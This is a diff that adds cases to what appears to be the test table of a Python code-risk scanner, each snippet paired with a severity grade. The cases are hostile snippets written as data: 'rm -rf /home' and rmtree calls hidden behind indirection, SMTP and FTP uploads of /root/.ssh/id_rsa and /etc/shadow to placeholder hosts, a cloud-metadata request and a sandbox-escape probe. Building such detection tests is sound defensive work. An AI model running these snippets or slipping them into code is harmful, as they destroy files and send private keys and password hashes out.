@@ -63,7 +63,16 @@ CASES = [
     ("().__class__.__bases__[0].__subclasses__()", HIGH, False),
     ("import shop.models", MEDIUM, False),
     ("from .models import User", MEDIUM, False),
+    ("import sys\nsys.path.insert(0, '/tmp')\nimport json", MEDIUM, False),
+    (
+        "import os\nclass A:\n    def __getattr__(self, n):\n        return os.system\nA().x('rm -rf /home')",
+        CRITICAL, None,
+    ),
+    ("import os\ndo = {'a': os.system}\ndo['a']('rm -rf /home')", HIGH, False),
+    ("import shutil\ndef g():\n    return shutil.rmtree\ng()('/home')", CRITICAL, True),
     # networks and secrets
+    ("import smtplib\nsmtplib.SMTP('m.example').sendmail('a', 'b', open('/root/.ssh/id_rsa').read())", CRITICAL, True),
+    ("import ftplib\nf = ftplib.FTP('x.example')\nf.storbinary('STOR a', open('/etc/shadow', 'rb'))", CRITICAL, True),
     ("import requests\nprint(requests.get('https://api.example.com').json())", MEDIUM, True),
     ("import requests\nrequests.get('http://169.254.169.254/latest/')", HIGH, True),
     ("import requests\nrequests.post('https://x.example', data=open('/root/.ssh/id_rsa').read())", CRITICAL, True),
